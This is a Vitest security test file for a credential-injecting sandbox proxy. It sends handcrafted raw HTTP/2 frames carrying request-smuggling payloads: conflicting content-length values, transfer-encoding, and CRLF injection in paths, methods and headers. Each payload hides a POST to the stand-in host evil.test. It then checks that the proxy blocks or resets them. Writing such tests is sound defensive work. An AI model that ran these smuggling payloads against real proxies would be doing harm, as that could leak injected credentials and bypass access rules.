/** HTTP/2 requests that a server could forward over HTTP/1 as several or different requests. */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { needs } from '../../support/needs.ts';
import { openRuledSandbox, type RuledSandbox, SECRETS, say } from '../support/ruled-sandbox.ts';
import { openRuledWorld, type RuledWorld } from '../support/ruled-world.ts';

const isRoot = process.getuid?.() === 0;
/**
 * Handwritten frames that no library would send. Prints how stream 1 ends, and then the response on stream
 * 3.
 */
const PYTHON = `
import json, socket, ssl, struct, sys
def frame(kind, flags, stream, body): return struct.pack('>I', len(body))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + body
def text(t): return bytes([len(t)]) + t.encode('latin1')
def fields(pairs): return b''.join(b'\\0' + text(n) + text(v) for n, v in pairs)
c = ssl.create_default_context(); c.set_alpn_protocols(['h2'])
s = c.wrap_socket(socket.create_connection(('api.test', 443), 60), server_hostname='api.test')
s.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + frame(4, 0, 0, b''))
def all_of(n):
  b = b''
  while len(b) < n:
    d = s.recv(n - len(b))
    if not d: raise EOFError
    b += d
  return b
def end_of(stream):
  said = []
  while True:
    try: head = all_of(9)
    except (EOFError, OSError): return said + ['closed']
    body = all_of(int.from_bytes(head[:3], 'big'))
    kind, flags, on = head[3], head[4], int.from_bytes(head[5:], 'big')
    if kind == 4 and not flags & 1: s.sendall(frame(4, 1, 0, b''))
    if kind == 7: return said + ['goaway']
    if on != stream: continue
    if kind == 3: return said + ['reset']
    if kind == 0: said.append(body.decode())
    if flags & 1: return said + ['end']
def ask(stream, pairs, data):
  s.sendall(frame(1, 4 if data is not None else 5, stream, fields(pairs)))
  if data is not None: s.sendall(frame(0, 1, stream, data.encode()))
  return end_of(stream)
`;
type Fields = [name: string, value: string][];
const HIDDEN = 'POST /collect HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 120\r\n\r\n';
const GET: Fields = [
  [':method', 'GET'],
  [':scheme', 'https'],
  [':authority', 'api.test'],
  [':path', '/allowed/1'],
];
const but = (name: string, value: string): Fields =>
  GET.map(([each, was]) => [each, each === name ? value : was]);

describe('HTTP/2 request smuggling', needs('root, for a route to test addresses', isRoot), () => {
  let world: RuledWorld;
  let box: RuledSandbox;

  beforeAll(async () => {
    world = await openRuledWorld();
    box = await openRuledSandbox(world, {
      mode: 'custom',
      rules: [
        { domain: 'api.test', match: { pathPrefix: '/allowed' }, headers: { Authorization: say('TOKEN') } },
      ],
    });
  });

  afterAll(async () => {
    await box?.close();
    await world?.close();
  });

  beforeEach(() => {
    world.seen.splice(0);
  });

  const ask = (fields: Fields, data: string | null): Promise<string> =>
    box.script(
      'python3',
      `${PYTHON}
print(ask(1, json.loads(${JSON.stringify(JSON.stringify(fields))}), json.loads(${JSON.stringify(JSON.stringify(data))})))
print(ask(3, json.loads(${JSON.stringify(JSON.stringify(but(':path', '/allowed/2')))}), None))`,
    );

  it.each<[string, Fields, string | null]>([
    ['a length without a body', [...GET, ['content-length', String(HIDDEN.length)]], null],
    ['two lengths', [...GET, ['content-length', '0'], ['content-length', '66']], HIDDEN],
    ['a length with a sign', [...GET, ['content-length', `+${HIDDEN.length}`]], HIDDEN],
    ['Transfer-Encoding', [...GET, ['transfer-encoding', 'chunked']], HIDDEN],
    ['Connection', [...GET, ['connection', 'content-length']], HIDDEN],
    ['Upgrade', [...GET, ['upgrade', 'h2c']], null],
    ['an unsupported TE value', [...GET, ['te', 'chunked']], null],
    ['another scheme', but(':scheme', 'http'), null],
    ['an invalid scheme', but(':scheme', 'https://evil.test/?'), null],
    ['a path without a slash', but(':path', 'evil.test/collect'), null],
    ['a path with a space', but(':path', '/allowed HTTP/1.1'), null],
    ['a path with line breaks', but(':path', `/allowed HTTP/1.1\r\n\r\n${HIDDEN}`), null],
    ['a method with line breaks', but(':method', `GET / HTTP/1.1\r\n\r\n${HIDDEN}GET`), null],
    ['two paths', [...GET, [':path', '/collect']], null],
    ['another host', [...GET, ['host', 'evil.test']], null],
    ['another authority', but(':authority', 'evil.test'), null],
    ['CONNECT', but(':method', 'CONNECT'), null],
    ['a protocol', [...but(':method', 'CONNECT'), [':protocol', 'websocket']], null],
  ])('does not work with %s', async (_case, fields, data) => {
    const printed = await ask(fields, data);
    expect(printed).not.toMatch(/^\['size/);
    expect(world.seen.filter(({ path }) => path !== '/allowed/2')).toEqual([]);
  });

  it.each([
    ['a value with line breaks', [['x-a', `a\r\n\r\n${HIDDEN}`]]],
    ['a name with line breaks', [[`x-a: a\r\n\r\n${HIDDEN}x`, 'a']]],
  ] as [string, Fields][])('does not work with %s', async (_case, more) => {
    await ask([...GET, ...more], null);
    for (const { headers, names } of world.seen)
      expect(JSON.stringify([headers, names])).not.toMatch(/collect|evil|x-a/);
  });

  it.each([
    ['more', '3'],
    ['less', '300'],
  ])('resets a request whose body has %s than its length, and answers the next', async (_case, length) => {
    const printed = await ask([...but(':method', 'POST'), ['content-length', length]], HIDDEN);
    expect(printed).toMatch(/\['reset'\]\n\['size 0\\n', 'end'\]/);
    for (const { host, path, headers } of world.seen) {
      expect([host, headers['authorization']]).toEqual(['api.test', SECRETS.TOKEN]);
      expect(['/allowed/1', '/allowed/2']).toContain(path);
    }
  });

  it('does not affect a request whose body has its declared length', async () => {
    const printed = await ask([...GET, ['content-length', String(HIDDEN.length)]], HIDDEN);
    expect(printed).toContain(`['size ${HIDDEN.length}\\n'`);
    expect(world.seen.map(({ path }) => path)).toEqual(['/allowed/1', '/allowed/2']);
  });
});
